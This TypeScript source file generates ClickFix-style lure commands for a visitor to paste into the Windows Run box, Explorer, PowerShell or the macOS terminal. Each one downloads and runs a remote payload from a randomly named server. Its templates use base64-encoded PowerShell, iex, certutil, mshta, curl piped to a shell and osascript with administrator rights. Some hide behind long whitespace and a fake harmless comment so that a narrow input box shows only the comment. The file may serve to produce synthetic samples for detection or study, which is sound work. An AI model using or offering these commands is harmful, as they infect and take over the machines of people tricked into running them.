import type { Chance } from '../make/chance.ts'

/** The places where a visitor is told to paste the command. */
export const WHERES = ['run', 'shell', 'explorer', 'terminal'] as const
export type Where = (typeof WHERES)[number]

const wide = (text: string) => Buffer.from(text, 'utf16le').toString('base64')
const narrow = (text: string) => Buffer.from(text).toString('base64')

const HARMLESS = [
  '# Verification hash #884-201',
  '# I confirm that I am a person',
  '# Driver repair package, Realtek HD Audio 6.0.1',
  '# https://meet.google.com/landing?hs=197',
  '# C:\\Company\\Internal\\HR\\Bonus_plan.docx',
]

/** A command that hides what it does: encoded, or behind a harmless comment that is all a narrow box shows. */
export function commandOf(where: Where, chance: Chance): string {
  const server = `${chance.name(3)}${chance.of(['', '-cdn', '-api'])}.${chance.of(['com', 'top', 'live', 'pro', 'site'])}`
  if (where === 'terminal') return terminal(server, chance)
  const command = where === 'shell' ? shell(server, chance) : box(server, chance)
  if (where === 'explorer') return `${command}${' '.repeat(40 + chance.below(100))}${chance.of(HARMLESS)}`
  return chance.maybe(0.5) ? `${command} ${chance.of(HARMLESS)}` : command
}

function shell(server: string, chance: Chance): string {
  const load = `$w=New-Object Net.WebClient;$d=$w.DownloadString('https://${server}/${chance.letters(4)}');Invoke-Expression $d`
  return chance.of([
    `powershell -nop -ep bypass -e ${wide(`${load};Start-Sleep -s ${chance.below(9)};Clear-Host`)}`,
    `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${narrow(load)}')))`,
    `$u='https://${server}/';$p="$env:TEMP\\${chance.letters(5)}.exe";Invoke-WebRequest $u -OutFile $p;Start-Process $p -WindowStyle Hidden`,
    `ipconfig /flushdns; & ([scriptblock]::Create((irm "https://${server}/fix")))`,
    `$a='${server}';$b=(Invoke-RestMethod "https://$a/v2");.([char]105+'ex') $b;cls`,
  ])
}

function box(server: string, chance: Chance): string {
  return chance.of([
    `powershell.exe -WindowStyle Hidden -EncodedCommand ${wide(`Invoke-RestMethod https://${server}/${chance.letters(3)} | Invoke-Expression`)}`,
    `PowerShell -W H -c "$r='${server}';curl.exe $r | iex"`,
    `conhost.exe --headless cmd /c "curl -sL ${server}/a -o %TEMP%\\a.hta & mshta %TEMP%\\a.hta"`,
    `C:\\Windows\\System32\\mshta.exe https://${server}/page.mp4`,
    `cmd /v:on /c "set x=power&&set y=shell&&!x!!y! -c iwr https://${server}/s -UseBasicParsing^|iex"`,
    `cmd.exe /c certutil -urlcache -f https://${server}/k.bin %TEMP%\\k.exe && %TEMP%\\k.exe`,
  ])
}

function terminal(server: string, chance: Chance): string {
  const load = `curl -ks https://${server}/${chance.letters(3)}/$(uname -m)`
  return chance.of([
    `echo "Apple Support: https://support.apple.com/disk" && ${load} | zsh`,
    `echo '${narrow(`${load} | nohup bash &`)}' | base64 -D | bash`,
    `curl -o $TMPDIR/update https://${server}/update && xattr -c $TMPDIR/update && chmod +x $TMPDIR/update && $TMPDIR/update`,
    `bash <<< $(base64 -d <<< ${narrow(load)})`,
    `osascript -e 'do shell script "${load} | sh" with administrator privileges'`,
    `zsh -c "$(curl -fsSL $(echo ${narrow(`https://${server}/m.sh`)} | base64 -d))"`,
  ])
}
